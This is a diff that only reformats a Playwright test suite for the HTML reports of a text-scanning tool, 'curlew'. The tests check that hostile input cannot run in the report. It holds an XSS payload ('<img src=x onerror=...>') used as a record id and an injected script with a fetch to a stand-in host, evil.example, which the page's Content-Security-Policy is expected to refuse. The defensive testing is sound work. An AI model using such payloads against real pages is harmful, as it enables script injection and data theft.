@@ -38,15 +38,57 @@ async function open(name: string): Promise<void> {
 }
 
 beforeAll(async () => {
-  browser = await chromium.launch({ executablePath: "/usr/bin/chromium", args: ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update"] });
-  const plain = Array.from({ length: 300 }, (_, i) => row({ id: `n${i}`, text: i === 7 ? `needle ${BAD}` : `Run ${BAD.replace("x.", `h${i % 3}.`)}`, labels: i % 2 === 0 ? ["PS"] : [] }));
+  browser = await chromium.launch({
+    executablePath: "/usr/bin/chromium",
+    args: [
+      "--no-sandbox",
+      "--disable-gpu",
+      "--disable-background-networking",
+      "--disable-component-update",
+    ],
+  });
+  const plain = Array.from({ length: 300 }, (_, i) =>
+    row({
+      id: `n${i}`,
+      text: i === 7 ? `needle ${BAD}` : `Run ${BAD.replace("x.", `h${i % 3}.`)}`,
+      labels: i % 2 === 0 ? ["PS"] : [],
+    }),
+  );
   cwd = folderWith({
-    "hostile.jsonl": HOSTILE.map((text, i) => row({ id: i === 0 ? "<img src=x onerror=window.taken=1>" : `h${i}`, text })).join(""),
+    "hostile.jsonl": HOSTILE.map((text, i) =>
+      row({ id: i === 0 ? "<img src=x onerror=window.taken=1>" : `h${i}`, text }),
+    ).join(""),
     "plain.jsonl": plain.join("") + row({ id: "cut", text: "TOO LONG" }),
   });
-  expect((await runHere(["batch", "-q", "hostile.jsonl", "-o", "p", "--report", "hostile.html"], { cwd })).stderr).toBe("");
-  expect((await runHere(["batch", "-q", "plain.jsonl", "-o", "q", "--report", "plain.html"], { cwd })).status).toBe(0);
-  expect((await runHere(["batch", "-q", "plain.jsonl", "-o", "r", "--report", "sample.html", "--report-texts", "20"], { cwd })).status).toBe(0);
+  expect(
+    (
+      await runHere(["batch", "-q", "hostile.jsonl", "-o", "p", "--report", "hostile.html"], {
+        cwd,
+      })
+    ).stderr,
+  ).toBe("");
+  expect(
+    (await runHere(["batch", "-q", "plain.jsonl", "-o", "q", "--report", "plain.html"], { cwd }))
+      .status,
+  ).toBe(0);
+  expect(
+    (
+      await runHere(
+        [
+          "batch",
+          "-q",
+          "plain.jsonl",
+          "-o",
+          "r",
+          "--report",
+          "sample.html",
+          "--report-texts",
+          "20",
+        ],
+        { cwd },
+      )
+    ).status,
+  ).toBe(0);
 });
 afterAll(() => browser.close());
 
@@ -55,10 +97,16 @@ describe("the report", () => {
     await open("hostile.html");
     await page.evaluate(() => dispatchEvent(new Event("beforeprint"))); // shows all at once
     expect(await page.locator("article").count()).toBe(HOSTILE.length);
-    await page.evaluate(() => document.querySelectorAll("details").forEach((details) => (details.open = true)));
+    await page.evaluate(() =>
+      document.querySelectorAll("details").forEach((details) => (details.open = true)),
+    );
     expect(await page.evaluate(() => (window as { taken?: number }).taken)).toBeUndefined();
     expect(await page.title()).toBe("What curlew found in hostile.jsonl");
-    expect(await page.locator("main img, main iframe, main svg, main base, main script, article form").count()).toBe(0);
+    expect(
+      await page
+        .locator("main img, main iframe, main svg, main base, main script, article form")
+        .count(),
+    ).toBe(0);
     expect(await page.locator("article mark").count()).toBeGreaterThanOrEqual(2 * HOSTILE.length);
     expect(await page.locator("body").isVisible()).toBe(true);
     expect([requests.filter((url) => !url.startsWith("file:")), trouble]).toEqual([[], []]);
@@ -68,13 +116,23 @@ describe("the report", () => {
 
   it("allows its own script and style, and nothing else", async () => {
     await open("hostile.html");
-    const policy = await page.locator("meta[http-equiv=Content-Security-Policy]").getAttribute("content");
-    expect(policy).toMatch(/^default-src 'none'; script-src 'sha256-[\w+/=]+'; style-src 'sha256-[\w+/=]+'; base-uri 'none'; form-action 'none'$/);
+    const policy = await page
+      .locator("meta[http-equiv=Content-Security-Policy]")
+      .getAttribute("content");
+    expect(policy).toMatch(
+      /^default-src 'none'; script-src 'sha256-[\w+/=]+'; style-src 'sha256-[\w+/=]+'; base-uri 'none'; form-action 'none'$/,
+    );
     const refused = await page.evaluate(async () => {
       const script = document.createElement("script");
       script.textContent = "window.taken = 1";
       document.body.append(script);
-      return [(window as { taken?: number }).taken, await fetch("https://evil.example").then(() => "sent", () => "refused")];
+      return [
+        (window as { taken?: number }).taken,
+        await fetch("https://evil.example").then(
+          () => "sent",
+          () => "refused",
+        ),
+      ];
     });
     expect(refused).toEqual([undefined, "refused"]);
   });
@@ -103,12 +161,16 @@ describe("the report", () => {
     await page.keyboard.type("needle");
     expect(await page.locator("article").count()).toBe(1);
     await page.locator("article summary").press("Enter");
-    expect(await page.locator("article .trace").innerText()).toContain("curl fetches remote content");
+    expect(await page.locator("article .trace").innerText()).toContain(
+      "curl fetches remote content",
+    );
   });
 
   it("says that texts are a sample", async () => {
     await open("sample.html");
-    expect(await page.getByRole("status").innerText()).toBe("20 of a sample of 20, drawn by chance from 301 texts");
+    expect(await page.getByRole("status").innerText()).toBe(
+      "20 of a sample of 20, drawn by chance from 301 texts",
+    );
     expect(readFileSync(join(cwd, "sample.html")).length).toBeLessThan(250_000);
   });
 
@@ -121,9 +183,13 @@ describe("the report", () => {
     await page.emulateMedia({ colorScheme });
     await page.setViewportSize({ width, height: 800 });
     // the page's own policy keeps other scripts out: this one comes through the debugger
-    const violations = await page.evaluate(`${axe.source}; axe.run(document, { resultTypes: ["violations"] }).then(({ violations }) => violations.map(({ id, nodes }) => id + ": " + nodes[0].html))`);
+    const violations = await page.evaluate(
+      `${axe.source}; axe.run(document, { resultTypes: ["violations"] }).then(({ violations }) => violations.map(({ id, nodes }) => id + ": " + nodes[0].html))`,
+    );
     expect(violations).toEqual([]);
-    expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
+    expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(
+      true,
+    );
   });
 
   it("is printed whole, without controls", async () => {
@@ -135,7 +201,13 @@ describe("the report", () => {
   });
 
   it("that cannot be written is told", async () => {
-    const { stderr, status } = await runHere(["batch", "-q", "plain.jsonl", "--report", "no/such/r.html", "-o", "s"], { cwd });
-    expect([stderr, status]).toEqual(["curlew: cannot write no/such/r.html: no such file or folder\n", 2]);
+    const { stderr, status } = await runHere(
+      ["batch", "-q", "plain.jsonl", "--report", "no/such/r.html", "-o", "s"],
+      { cwd },
+    );
+    expect([stderr, status]).toEqual([
+      "curlew: cannot write no/such/r.html: no such file or folder\n",
+      2,
+    ]);
   });
 });
